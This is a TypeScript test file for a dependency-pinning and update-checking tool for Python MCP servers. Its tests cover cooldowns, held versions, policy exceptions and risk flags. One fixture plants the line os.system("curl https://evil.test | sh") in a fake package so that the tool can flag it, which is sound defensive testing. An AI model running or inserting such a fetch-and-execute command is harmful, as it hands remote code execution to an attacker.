import assert from "node:assert/strict";
import { test } from "node:test";

import type { RankedDifference } from "../../src/difference/difference.ts";
import { type SmallWheel, TERN, WAVE } from "../support/python-home.ts";
import { type PythonStage, stage, UVX } from "../support/python-stage.ts";
import type { Entry, GivenOptions } from "../support/world.ts";

interface JsonRow {
  readonly outcome: string;
  readonly from: string;
  readonly to: string;
  readonly reason: string | null;
  readonly held: { readonly version: string } | null;
  readonly difference: RankedDifference | null;
}

async function locked(entry: Entry = UVX): Promise<PythonStage> {
  const it = await stage(entry);
  assert.ok(await it.world.locks(), it.world.err);
  return it;
}

/** `update --check --json` of the only server. */
async function shown({ world }: PythonStage, options: GivenOptions = {}) {
  world.out = "";
  const exitCode = await world.updates({ isCheck: true, format: "json", ...options });
  const { servers } = JSON.parse(world.out) as { servers: readonly JsonRow[] };
  const [row] = servers;
  assert.ok(row !== undefined);
  const { difference } = row;
  return { exitCode, row, risks: difference?.risks ?? [], packages: difference?.packages ?? [] };
}

const OLD = { at: "2026-06-01T09:00:00Z" };
const LATELY = { at: "2026-11-22T18:00:00Z" };
const WAVE_2: SmallWheel = {
  ...WAVE,
  version: "2.1.0",
  files: { ...WAVE.files, "wave/deep.py": 'import os\nos.system("curl https://evil.test | sh")\n' },
};

test("a pin that nothing is newer than is current, and nothing is written", async () => {
  await using it = await locked();
  const before = it.lockfile();
  const { exitCode, row } = await shown(it);
  assert.deepEqual([exitCode, row.outcome, row.difference], [0, "current", null], row.reason ?? "");
  assert.deepEqual(it.lockfile(), before);
});

test("a dependency that moved is compared file by file, and the pin moves after a yes", async () => {
  await using it = await locked();
  it.index.publish(WAVE_2, OLD);
  const { exitCode, row, packages, risks } = await shown(it);
  assert.deepEqual([exitCode, row.outcome, row.to], [1, "differs", "1.4.0"], row.reason ?? "");
  assert.deepEqual(
    packages.map(({ name, from, to, files }) => [name, from, to, files.map(({ path }) => path)]),
    [["wave", "2.0.0", "2.1.0", ["wave/deep.py", ".dist-info/METADATA"]]],
  );
  assert.ok(risks.some(({ message }) => message.startsWith("starts programs: wave/deep.py")));

  assert.equal(await it.world.updates({}, "n"), 3);
  assert.equal(it.lockfile()?.revision, 1);
  assert.equal(await it.world.updates({}, "y"), 0, it.world.err);
  assert.equal(it.lockfile()?.revision, 2);
  assert.equal(it.lockfile()?.packages["wave"]?.version, "2.1.0");
});

test("what was updated and installed is verified", async () => {
  await using it = await locked();
  it.index.publish({ ...TERN, version: "1.5.0" }, OLD);
  assert.equal(await it.world.updates({ isYes: true }), 0, it.world.err);
  it.python.caches("tern-environment", { ...TERN, version: "1.5.0" }, WAVE);
  const { servers } = await it.world.asks();
  const rules = servers[0]?.findings.map(({ ruleId }) => ruleId);
  assert.equal(servers[0]?.verdict, "verified", String(rules));
});

test("what is too young is held back and named, and what is pinned may stay however young", async () => {
  await using it = await stage(UVX, [TERN]);
  it.index.publish(WAVE, LATELY);
  assert.ok(await it.world.locks(), it.world.err);
  it.index.publish({ ...TERN, version: "1.5.0" }, LATELY);
  const { exitCode, row } = await shown(it);
  assert.deepEqual([exitCode, row.outcome], [0, "current"], row.reason ?? "");
  assert.equal(row.held?.version, "1.5.0");
});

test("an exception of a policy's cooldown lets one package move, and no other", async () => {
  await using it = await locked();
  it.world.plants(
    "~/.config/pinfold/lockfiles/policy.json",
    JSON.stringify({
      policyVersion: 1,
      cooldown: {
        days: 30,
        exceptions: [{ subject: "pkg:pypi/wave", reason: "a fix", until: "2027-01-31" }],
      },
    }),
  );
  it.index.publish({ ...TERN, version: "1.5.0" }, LATELY);
  it.index.publish(WAVE_2, LATELY);
  const { row, packages } = await shown(it);
  assert.equal(row.outcome, "differs", row.reason ?? "");
  assert.deepEqual(
    packages.map(({ name, to }) => [name, to]),
    [["wave", "2.1.0"]],
  );
});

test("an exact version that a person wrote into the config is taken with its age as a risk", async () => {
  await using it = await locked({ command: "uvx", args: ["mcp-server-tern@1.4.0"] });
  it.index.publish({ ...TERN, version: "1.5.0" }, LATELY);
  it.world.configures({ tern: { command: "uvx", args: ["mcp-server-tern@1.5.0"] } });
  const { row, risks } = await shown(it);
  assert.deepEqual([row.outcome, row.to], ["differs", "1.5.0"], row.reason ?? "");
  assert.ok(risks.some(({ id }) => id === "young-package"));
});

test("an index without times is taken from, and ages are named as unknown", async () => {
  await using it = await locked();
  it.index.hasTimes = false;
  it.index.publish(WAVE_2);
  for (const file of it.index.files) file.published = null;
  const { row, risks } = await shown(it);
  assert.equal(row.outcome, "differs", row.reason ?? "");
  assert.ok(risks.some(({ id }) => id === "young-package"));
});

test("--only moves one package and leaves the others", async () => {
  await using it = await locked();
  it.index.publish(WAVE_2, OLD);
  it.index.publish({ ...TERN, version: "1.5.0" }, OLD);
  const { row, packages } = await shown(it, { only: "wave" });
  assert.equal(row.to, "1.4.0", row.reason ?? "");
  assert.deepEqual(
    packages.map(({ name }) => name),
    ["wave"],
  );
});

test("a file that runs at every start is a risk of its own, which --yes alone does not accept", async () => {
  await using it = await locked();
  it.index.publish({ ...WAVE_2, files: { ...WAVE.files, "wave.pth": "import wave\n" } }, OLD);
  const { risks } = await shown(it);
  assert.match(risks[0]?.message ?? "", /every start of Python \(wave\.pth\)/);
  assert.equal(await it.world.updates({ isYes: true }), 3);
  assert.match(it.world.err, /--allow-scripts wave/);
  assert.equal(await it.world.updates({ isYes: true, allowScripts: ["wave"] }), 0, it.world.err);
});

test("other bytes under a version that stays are not taken over", async () => {
  await using it = await locked();
  const pinned = it.lockfile()?.packages["wave"];
  it.index.replace("wave", { ...WAVE, files: { "wave/__init__.py": "evil()" } });
  it.index.publish({ ...TERN, version: "1.5.0" }, OLD);
  assert.equal(await it.world.updates({ isYes: true }), 0, it.world.err);
  assert.deepEqual(it.lockfile()?.packages["wave"], pinned);
});

test("the pin of an environment that is started as it is moves to what is installed", async () => {
  const entry = { command: "/home/ada/venv/bin/python", args: ["-m", "mcp_server_tern"] };
  await using it = await stage(entry);
  const root = it.python.makes("/home/ada/venv", TERN, WAVE);
  assert.ok(await it.world.locks(), it.world.err);
  it.index.publish(WAVE_2, OLD);
  assert.equal((await shown(it)).row.outcome, "current");
  it.world.disk.remove(root);
  it.python.makes("/home/ada/venv", TERN, WAVE_2);
  const { row, packages } = await shown(it);
  assert.equal(row.outcome, "differs", row.reason ?? "");
  assert.deepEqual(
    packages.map(({ name, to }) => [name, to]),
    [["wave", "2.1.0"]],
  );
});
